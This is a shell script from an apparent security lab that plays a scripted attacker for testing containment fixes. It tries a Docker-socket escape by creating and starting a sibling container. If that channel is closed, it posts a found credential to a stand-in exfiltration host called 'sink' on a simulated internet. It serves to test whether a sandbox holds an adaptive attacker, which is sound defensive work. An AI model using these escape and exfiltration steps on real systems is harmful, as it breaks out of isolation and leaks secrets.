#!/bin/sh
# second-channel.sh - scripted attacker (docs/agents.md): break out through
# the docker socket; only when that channel is closed, leak the credential
# to the simulated internet instead; then take the bait.  An attacker that
# adapts: closing the first hole it used does not contain it while a
# second one is open (what the fix loop's "attribute again" is for).
#
# 1. Finds the credential as take_bait does (find_bait).
# 2. Channel 1, the docker socket: with a socket at ATTACK_DOCKER_SOCK,
#    GET /images/json (the lab's own image), POST /containers/create of a
#    plain sibling running sleep, POST /containers/{id}/start.  A sibling
#    created (201) means this channel is open and channel 2 is not tried.
# 3. Channel 2, only when channel 1 is closed (no socket, or nothing
#    created): POST the credential as JSON to http://ATTACK_EXFIL_HOST/
#    upload (default host `sink`, the simulated internet on `wan`, which
#    the agent reaches only with flaw egress-network; otherwise the name
#    does not resolve and the request fails).
# 4. ATTACK_BAIT=after (default) then takes the bait; before / no.  No
#    note is posted from the bait on (the levers cut the gateway off).
#
# Output, one line per attempt (`@attempt NAME key=value... status=S`):
#   @attempt docker-list image=IMAGE|none status=HTTP-CODE|fail|nosocket
#   @attempt docker-create id=ID12|none status=HTTP-CODE|fail|skipped
#   @attempt docker-start id=ID12|none status=HTTP-CODE|fail|skipped
#   @attempt exfil host=HOST status=HTTP-CODE|fail|skipped
#   @attempt bait-find ... / bait-use ...   (see docker-after-cutoff.sh)
#   @done second-channel: channel=docker|network|none
# Bounded: at most 4 requests of at most 10 s besides the bait's.  Exit 0.
#
# Environment (optional): ATTACK_DOCKER_SOCK (default
# /var/run/docker.sock), ATTACK_EXFIL_HOST (default sink), ATTACK_SLEEP
# (the sibling's sleep in s, default 300), ATTACK_BAIT, ATTACK_NOTES,
# ARES_LAB.
set -u
SOCK=${ATTACK_DOCKER_SOCK:-/var/run/docker.sock}
EXFIL=${ATTACK_EXFIL_HOST:-sink}
SLEEP=${ATTACK_SLEEP:-300}

# the shared helpers (attempt, note, finish, code, find_bait, take_bait)
. /usr/share/ares/attack.sh

# bait: take the bait, and post no note from then on (the levers cut the
# gateway off; a note in flight would outlive the drill's sweep).
bait() {
	NOTES=0
	take_bait
}

note "second-channel: start"
[ "$BAIT" = before ] && bait
find_bait
channel=none

# ---- channel 1: the docker socket ----
id=""
if [ -S "$SOCK" ]; then
	out=$("$LAB" http --unix "$SOCK" http://localhost/images/json 2>/dev/null)
	rc=$?
	image=$(printf '%s\n' "$out" | grep -o '"RepoTags":\["[^"]*"' |
	    head -n 1 | cut -d'"' -f4)
	attempt "docker-list image=${image:-none} status=$(code "$out" $rc)"
	if [ -n "$image" ]; then
		body=$(printf '{"Image":"%s","Cmd":["/bin/sleep","%s"],"Labels":{"attack":"second-channel"}}' "$image" "$SLEEP")
		out=$("$LAB" http --unix "$SOCK" -X POST \
		    -H 'Content-Type: application/json' -d "$body" \
		    http://localhost/containers/create 2>/dev/null)
		rc=$?
		id=$(printf '%s\n' "$out" | grep -o '"Id":"[0-9a-f]*"' |
		    cut -d'"' -f4)
		attempt "docker-create id=$(printf '%s' "${id:-none}" | cut -c1-12) status=$(code "$out" $rc)"
	else
		attempt "docker-create id=none status=skipped"
	fi
	if [ -n "$id" ]; then
		out=$("$LAB" http --unix "$SOCK" -X POST \
		    "http://localhost/containers/$id/start" 2>/dev/null)
		attempt "docker-start id=$(printf '%s' "$id" | cut -c1-12) status=$(code "$out" $?)"
		channel=docker
		note "second-channel: started a sibling through the docker socket"
	else
		attempt "docker-start id=none status=skipped"
	fi
else
	attempt "docker-list image=none status=nosocket"
	attempt "docker-create id=none status=skipped"
	attempt "docker-start id=none status=skipped"
fi

# ---- channel 2: the network, only when channel 1 is closed ----
if [ "$channel" = none ]; then
	body=$(printf '{"token":"%s","from":"second-channel"}' "${TOKEN:-none}")
	out=$("$LAB" http -X POST -H 'Content-Type: application/json' \
	    -d "$body" "http://$EXFIL/upload" 2>/dev/null)
	st=$(code "$out" $?)
	attempt "exfil host=$EXFIL status=$st"
	if [ "$st" != fail ]; then
		channel=network
		note "second-channel: sent the credential to $EXFIL"
	fi
else
	attempt "exfil host=$EXFIL status=skipped"
fi

[ "$BAIT" = after ] && bait
finish "second-channel: channel=$channel"
exit 0
